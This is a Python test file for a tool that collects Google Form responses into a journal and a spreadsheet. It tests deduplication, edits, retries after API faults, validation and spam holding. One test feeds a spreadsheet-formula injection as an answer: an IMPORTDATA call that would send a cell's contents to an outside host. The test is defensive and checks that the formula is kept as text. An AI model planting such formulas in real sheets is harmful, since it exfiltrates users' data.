"""Responses of the Google Form come into the journal: each once, and corrections after it."""

import pytest

from forms.google_answers import FOREIGN
from sheets_sync.community import Status
from sheets_sync.form_memory import NAME, OVERLAP, WHOLE
from tests.form_story import form_story
from tests.google_standin.forms import add_form
from tests.google_standin.paper import rfc3339
from tests.test_form_publishing import KINDS


@pytest.fixture
def told(tmp_path):
    with form_story(tmp_path) as story:
        yield story


def reports(told) -> list[tuple[str, str]]:
    return [(one.act.value, one.answers["text"]) for one in told.journal()]


# -- the way of a response ------------------------------------------------------------------------


def test_a_response_becomes_a_row_like_any_other(told):
    told.answers("ana", "Met the press", tags="#press, Italy", date="2026-11-20")

    done = told.collect()
    told.sync()

    assert (done.reports, done.corrections, list(done.notes())) == (1, 0, [])
    columns = ("reporter", "text", "tags", "source", "status")
    assert told.shows("Reports", *columns) == [
        ("ana", "Met the press", "#press, Italy", "google form", "ok")
    ]


def test_it_was_received_when_google_took_it(told):
    told.answers("ana", "Met the press")
    sent = told.now
    told.pass_time(days=3)

    told.collect()
    told.sync()

    (submission,) = told.state.journal.submissions(told.shows("Reports", "id")[0][0])
    assert submission.submission.received == sent
    assert told.report(submission.submission.report).date == sent.date()


def test_collecting_again_takes_nothing_twice(told):
    told.answers("ana", "Met the press")
    told.collect()

    again = told.collect()

    assert (again.reports, again.corrections) == (0, 0)
    assert len(told.journal()) == 1


def test_an_edited_response_corrects_the_same_report(told):
    response = told.answers("ana", "Met the press", tags="press")
    told.collect()
    told.sync()
    told.pass_time(minutes=20)
    told.edits(response, "ana", "Met two journalists", tags="press")

    done = told.collect()
    told.sync()

    assert (done.reports, done.corrections) == (0, 1)
    assert told.shows("Reports", "text", "tags") == [("Met two journalists", "press")]


def test_a_response_that_was_edited_before_we_saw_it_is_one_report(told):
    response = told.answers("ana", "Met the press")
    told.pass_time(minutes=5)
    told.edits(response, "ana", "Met two journalists")

    told.collect()

    assert reports(told) == [("report", "Met two journalists")]


def test_an_edit_weeks_later_is_found_although_little_is_read_each_time(told):
    response = told.answers("ana", "Met the press")
    told.collect()
    for _ in range(3):
        told.pass_time(days=7)
        told.answers("ben", f"Week of {told.now:%d}")
        told.collect()
    told.edits(response, "ana", "Met two journalists")

    told.collect()

    assert reports(told)[-1] == ("correction", "Met two journalists")


def test_a_late_response_within_the_overlap_is_found(told):
    told.answers("ana", "Later")
    told.collect()
    told.pass_time(minutes=-40)  # Google's machines do not agree on the time
    told.answers("ben", "Earlier")
    told.pass_time(minutes=50)

    told.collect()

    assert reports(told) == [("report", "Later"), ("report", "Earlier")]


def test_only_what_is_new_is_asked_for_and_once_a_day_everything(told):
    told.answers("ana", "Met the press")
    told.collect()
    told.pass_time(hours=2)
    told.answers("ben", "Planned")
    told.collect()
    newest = told.now

    assert told.memory.begin(told.now) == rfc3339(newest - OVERLAP)
    assert told.memory.begin(told.now + WHOLE) == ""


def test_pages_are_read_to_the_last(told):
    told.page = 3
    for number in range(10):
        told.pass_time(minutes=7)
        told.answers("ana", f"Report {number}")

    done = told.collect()

    assert done.reports == 10
    assert [text for _, text in reports(told)] == [f"Report {n}" for n in range(10)]
    assert told.world.count(path="/responses") == 4


# -- faults ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["429", "503", "502 as HTML", "reset", "truncated JSON",
                                  "empty 200"])  # fmt: skip
@pytest.mark.parametrize("call", [1, 2, 3])
def test_a_call_that_fails_once_costs_a_second_call(told, kind, call):
    told.page = 2
    for number in range(5):
        told.answers("ana", f"Report {number}")
    told.world.fails(kind, call=call)

    done = told.collect()

    assert (done.reports, list(done.notes())) == (5, [])


def test_an_answer_that_never_comes_is_asked_for_again(told):
    told.answers("ana", "Met the press")
    told.world.fails("timeout")

    assert told.collect().reports == 1


# fault 50, for the form: killed after the journal's commit and before the mark has moved
def test_a_stop_between_journal_and_mark_doubles_nothing(told):
    before = told.state.base.get(NAME)
    told.answers("ana", "Met the press")
    told.collect()
    told.sync()
    told.state.base.put(NAME, before)

    again = told.collect()

    assert (again.reports, again.corrections) == (0, 0)
    assert not told.sync().changes
    assert told.shows("Reports", "text") == [("Met the press",)]


def test_what_came_before_a_lasting_fault_is_kept_and_the_rest_comes_next_time(told):
    told.page = 2
    for number in range(5):
        told.answers("ana", f"Report {number}")
    told.world.fails("503", call=2, times=1000, path="/responses")

    done = told.collect()

    assert done.reports == 2
    (note,) = done.notes()
    assert note.startswith("the Google Form was not read to its end: ")
    assert told.memory.newest == ""  # the journal is committed; the mark has not moved

    told.world.forget_plans()
    told.collect()

    assert sorted(text for _, text in reports(told)) == [f"Report {n}" for n in range(5)]


def test_a_failure_to_collect_never_stops_the_sync(told):
    told.posts("ben", "By the page")
    told.world.fails("500", times=1000)

    told.collect()
    told.sync()

    assert told.shows("Reports", "text") == [("By the page",)]


def test_a_response_that_makes_no_sense_stops_no_other(told):
    told.answers("ana", "Met the press")
    told.paper.responses.insert(0, {"responseId": 7, "createTime": "yesterday"})

    done = told.collect()

    assert reports(told) == [("report", "Met the press")]
    assert [line for line in done.notes() if "made no sense" in line]


def test_nothing_is_read_of_a_form_that_does_not_ask_our_questions(told):
    paper = add_form(told.world, "A quiz")
    paper.add_by_hand("What is 2 + 2?")
    told.settings = told.settings.model_copy(update={"google": paper.id})

    done = told.collect()

    assert list(done.notes()) == [
        "the Google Form was not read to its end: it does not ask “Who are you?”; "
        "run: tidings form publish"
    ]


def test_with_the_state_of_the_form_lost_its_questions_are_known_again(told):
    told.answers("ana", "Met the press")
    told.settings = told.settings.model_copy(update={"google": told.paper.id})
    told.state.base.put("google form", "")

    told.collect()

    assert reports(told) == [("report", "Met the press")]


# -- what Google Forms cannot check ---------------------------------------------------------------


def status(told) -> str:
    ((_, found),) = told.shows("Reports", "text", "status")
    return str(found)


@pytest.mark.parametrize(
    ("more", "wrong"),
    [
        ({"link": "see my blog"}, "not a link"),
        ({"email": "ana at example"}, "not an e-mail address"),
        ({"date": "20/11/2026"}, "not a date"),
        ({"date": "2026-12-24"}, "still to come"),
        ({"tags": ", ".join(f"tag {n}" for n in range(30))}, "these are 30 tags"),
        ({"mood": "splendid"}, "not one of the answers"),
    ],
)
def test_what_the_page_would_refuse_comes_in_to_be_looked_at(tmp_path, more, wrong):
    with form_story(tmp_path, published=False) as told:
        told.asks(KINDS)
        told.publish()
        told.answers("ana", "Met the press", **more)

        told.collect()
        outcome = told.sync()

        assert status(told) == Status.CHECK
        assert any(wrong in problem.text() for problem in outcome.problems)


# fault 7
@pytest.mark.parametrize("length", [10_001, 32_767, 32_768, 50_001])
def test_a_text_that_is_too_long_is_held_and_nothing_of_it_is_lost(told, length):
    text = "x" * length
    told.answers("ana", text)

    told.collect()
    (submission,) = told.journal()
    outcome = told.sync()

    assert submission.answers["text"] == text
    ((shown, found),) = told.shows("Reports", "text", "status")
    assert found == Status.HELD
    assert any(f"{length} characters long, and 10000 fit" in p.text() for p in outcome.problems)
    assert shown == text or str(shown).endswith("more characters are kept by Tidings]")
    assert not told.sync().changes


def test_blanks_alone_are_no_name(told):
    told.answers(" \u200b ", "Met the press")

    told.collect()
    told.sync()

    assert status(told) == Status.HELD


# fault 24
def test_a_formula_stays_a_text(told):
    told.answers("ana", '=IMPORTDATA("https://example.org/"&B2)')

    told.collect()
    told.sync()

    assert told.manager.is_text("Reports", 2, "text")


def test_many_links_and_repeats_are_held_as_on_the_page(told):
    told.answers("ana", " ".join(f"https://example.org/{n}" for n in range(4)))
    told.answers("ben", "Buy now")
    told.collect()
    told.pass_time(minutes=30)
    told.answers("Ben", "buy  now")
    told.pass_time(minutes=61)
    told.answers("ben", "Buy now")

    told.collect()

    assert [one.held for one in told.journal()] == [
        "it has 4 links",
        "",
        "the same text came from the same place within an hour",
        "",
    ]


def test_a_report_that_names_a_person_waits_where_only_personal_links_are_trusted(told):
    from dataclasses import replace  # noqa: PLC0415

    told.rules = replace(told.rules, trust="personal")
    told.answers("ana", "Met the press")

    told.collect()
    told.sync()

    assert status(told) == Status.UNMATCHED


def test_an_answer_to_a_question_that_form_toml_lacks_is_kept_and_told(told):
    id = told.paper.add_by_hand("T-shirt size")
    told.answers("ana", "Met the press")
    told.paper.responses[0]["answers"][id] = {"textAnswers": {"answers": [{"value": "XL"}]}}

    done = told.collect()

    assert told.journal()[0].answers[FOREIGN + id] == "XL"
    assert [line.split(":")[0] for line in done.notes()] == [
        "1 answer to questions that form.toml does not have"
    ]


def test_what_was_answered_long_before_the_form_was_ours_is_news_to_nobody(told):
    for days in (300, 3):
        told.pass_time(days=-days)
        told.answers("ana", f"{days} days ago")
        told.pass_time(days=days)

    told.collect()
    told.sync()

    found = {told.report(one).text: told.report(one).accepted for one in
             [str(id) for (id,) in told.shows("Reports", "id")]}  # fmt: skip
    assert found == {"300 days ago": 0, "3 days ago": 1}


def test_collecting_may_change_nothing_and_sees_no_other_file(told):
    before = set(told.world.tokens)
    told.collect()

    (token,) = set(told.world.tokens) - before
    assert all(scope.endswith(".readonly") for scope in told.world.tokens[token][1].split())
